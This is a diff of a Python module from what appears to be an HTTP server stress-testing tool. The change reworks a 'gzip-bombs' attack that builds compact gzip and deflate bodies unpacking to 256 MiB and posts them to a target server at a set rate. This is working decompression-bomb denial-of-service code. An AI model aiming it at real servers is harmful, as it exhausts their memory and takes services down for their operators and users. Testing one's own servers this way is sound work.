@@ -2,8 +2,10 @@
 
 from __future__ import annotations
 
+import struct
 import zlib
 from contextlib import ExitStack
+from functools import cache
 from itertools import cycle
 
 from .base import Attack, Turn
@@ -12,19 +14,27 @@ from .base import Attack, Turn
 class GzipBombs(Attack):
     name = "gzip-bombs"
     about = "bodies of 256 KiB that unpack to 256 MiB, as gzip and as deflate"
-    bombs: tuple[tuple[str, bytes], ...] = ()
 
     def strike(self, turn: Turn) -> None:
-        self.bombs = self.bombs or (("gzip", _bomb(31)), ("deflate", _bomb(15)))  # they take a second to make
-        bombs = cycle(self.bombs)
+        bombs = cycle(packed_zeros().items())
         for _ in turn.times(1.0 * self.target.rate):
             encoding, bomb = next(bombs)
             self.exchange(self.target.post(f"Content-Encoding: {encoding}", f"Content-Length: {len(bomb)}") + bomb)
 
 
-def _bomb(window: int, megabytes: int = 256) -> bytes:
-    packer, zeros = zlib.compressobj(9, zlib.DEFLATED, window), bytes(1 << 20)
-    return b"".join([*(packer.compress(zeros) for _ in range(megabytes)), packer.flush()])
+@cache
+def packed_zeros(megabytes: int = 256) -> dict[str, bytes]:
+    """Zeros as they are sent, by encoding. Put together from equal blocks, since to pack them all takes seconds."""
+    packer, zeros = zlib.compressobj(9, zlib.DEFLATED, -15), bytes(1 << 20)
+    block = packer.compress(zeros) + packer.flush(zlib.Z_FULL_FLUSH)
+    data, crc, adler = block * megabytes + packer.flush(zlib.Z_FINISH), 0, 1
+    for _ in range(megabytes):
+        crc, adler = zlib.crc32(zeros, crc), zlib.adler32(zeros, adler)
+    gzip_head = b"\x1f\x8b\x08" + bytes(6) + b"\xff"
+    return {
+        "gzip": gzip_head + data + struct.pack("<II", crc, megabytes << 20),
+        "deflate": b"\x78\xda" + data + struct.pack(">I", adler),
+    }
 
 
 class UnfinishedBodies(Attack):
